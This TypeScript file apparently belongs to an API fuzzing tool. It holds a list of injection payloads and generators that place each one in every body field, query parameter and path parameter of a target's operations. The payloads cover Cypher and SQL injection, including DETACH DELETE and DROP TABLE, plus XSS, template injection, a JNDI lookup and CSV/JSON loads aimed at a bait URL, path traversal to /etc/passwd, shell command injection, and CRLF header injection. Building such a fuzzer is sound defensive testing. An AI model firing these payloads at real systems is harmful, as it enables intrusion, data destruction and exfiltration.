import type { Random } from '../random.ts';
import type { Attack } from './attack.ts';
import { type Example, encoded, pathOf, requestOf, withValue } from './examples.ts';
import { bytesOf } from './exchange.ts';
import type { Prove } from './proof.ts';
import { INJECTED_HEADER } from './rules.ts';
import { INJECTED_LABEL } from './writes.ts';

const TEMPLATE = '1337*31337';
const CREATE = `CREATE (:${INJECTED_LABEL})`;
const HEADER = `${INJECTED_HEADER}: 1`;

/** Texts that mean something to some interpreter: in a field they are nothing but text. */
export const hostileTexts = (baitUrl: string): readonly string[] => [
  // Cypher
  `' ${CREATE} //`,
  `" ${CREATE} //`,
  `\` ${CREATE} //`,
  `'}) ${CREATE} WITH 1 AS one MATCH (n) RETURN n //`,
  `"}) DETACH DELETE n ${CREATE} //`,
  `\\' ${CREATE} //`,
  `\\u0027 ${CREATE} //`,
  `*/ ${CREATE} /*`,
  '$reach',
  "' OR 1=1 OR '1'='1",
  `'; CALL apoc.load.json('${baitUrl}/json') //`,
  `' + toString(1/0) + '`,
  `LOAD CSV FROM '${baitUrl}/csv' AS row ${CREATE}`,
  // Lucene
  '+ - && || ! ( ) { } [ ] ^ " ~ * ? : \\ /',
  '*:*',
  'title:*',
  '/(.*)*/',
  '*a*b*c*d*e*f*g*h*',
  'a~9999 AND NOT (b^999999999 OR [a TO *])',
  // HTML and script
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<!--#exec cmd="sleep 9"--><svg/onload=alert(1)>',
  // templates
  `{{${TEMPLATE}}} \${${TEMPLATE}} #{${TEMPLATE}} <%= ${TEMPLATE} %> @(${TEMPLATE}) {% print(${TEMPLATE}) %}`,
  "{{constructor.constructor('return process')().exit()}}",
  `\${jndi:ldap://${new URL(baitUrl).host}/a}`,
  // line ends
  `a\r\n${HEADER}\r\n\r\nb`,
  `a\n${HEADER}`,
  `a%0d%0a${HEADER}`,
  'a\u2028b\u2029c\u0085d',
  // paths and addresses
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  `${baitUrl}/fetched`,
  `//${new URL(baitUrl).host}/fetched`,
  // commands and queries of others
  '; sleep 9; $(sleep 9) `sleep 9` | sleep 9 &',
  "'; DROP TABLE profiles; --",
  '*)(uid=*))(|(uid=*',
  '{"$gt":""}',
  '%s%s%n%x%d',
  // what a language takes for something else
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'true',
  '-1',
  '1e400',
  '[object Object]',
  '{}',
  '00000000-0000-0000-0000-000000000000',
  '9999-99-99T99:99:99Z',
  // characters
  '',
  ' ',
  '\t\n',
  'a\u0000b',
  '\ufeffa',
  '\ud800',
  '\u202egnp.exe\u202c',
  'a\u200bb\u200d',
  '\u0130\ufb00\u1e9e',
  `Z${'\u0300'.repeat(500)}`,
  '👩‍👩‍👧‍👦'.repeat(100),
  `${'a'.repeat(40)}!`,
  'x'.repeat(10_000),
];

/** Above the limit of every field, and below that of a body. */
const LONG_TEXT = 'y'.repeat(1_000_000);

const shown = (text: string): string => JSON.stringify(text.length > 40 ? `${text.slice(0, 40)}…` : text);

type Headers = readonly (readonly [string, string])[];

interface Means {
  readonly port: number;
  readonly prove: Prove;
  readonly random: Random;
  readonly baitUrl: string;
}

const attackOf = (
  port: number,
  name: string,
  example: Example,
  prove: Prove,
  changed: { path?: string; body?: unknown },
): Attack => ({
  name,
  port,
  surface: 'api',
  sending: () => {
    const { operation } = example;
    const body = operation.body === undefined ? undefined : JSON.stringify(changed.body ?? example.body);
    const headers: Headers = prove(operation, body);
    return bytesOf(requestOf(example, headers, changed));
  },
});

/** A text in each field of a body alone, in each parameter alone, and in all fields of a body at once. */
function* oneText(example: Example, text: string, { port, prove }: Means): Generator<Attack> {
  const { operation, texts, body } = example;
  const at = (what: string) => `${shown(text)} in ${what} of ${operation.id}`;
  for (const { place } of texts.body)
    yield attackOf(port, at(place.join('.')), example, prove, { body: withValue(body, place, text) });
  const free = texts.body.filter(({ isId }) => !isId);
  if (free.length > 1)
    yield attackOf(port, at('all fields'), example, prove, {
      body: free.reduce((changed: unknown, { place }) => withValue(changed, place, text), body),
    });
  for (const name of texts.query)
    yield attackOf(port, at(`?${name}`), example, prove, {
      path: pathOf(example, { query: { [name]: text } }),
    });
  for (const name of texts.params)
    if (text !== '' && encoded(text).length < 4000)
      yield attackOf(port, at(`{${name}}`), example, prove, {
        path: pathOf(example, { params: { [name]: text } }),
      });
}

/**
 * Hostile texts in every text field, query and path parameter of every operation. Every operation meets every text; of
 * its fields each meets as many as `perField` says, chosen by the seed.
 */
export function* textAttacks(
  examples: readonly Example[],
  means: Means,
  perField: number,
): Generator<Attack> {
  const texts = hostileTexts(means.baitUrl);
  for (const example of examples) {
    const all = texts.flatMap((text) => [...oneText(example, text, means)]);
    const wanted = means.random.shuffled(all).slice(0, Math.ceil((all.length / texts.length) * perField));
    yield* wanted;
    const { body, operation, texts: fields } = example;
    for (const { place } of means.random.shuffled(fields.body).slice(0, 3))
      yield attackOf(
        means.port,
        `a million characters in ${place.join('.')} of ${operation.id}`,
        example,
        means.prove,
        {
          body: withValue(body, place, LONG_TEXT),
        },
      );
  }
}
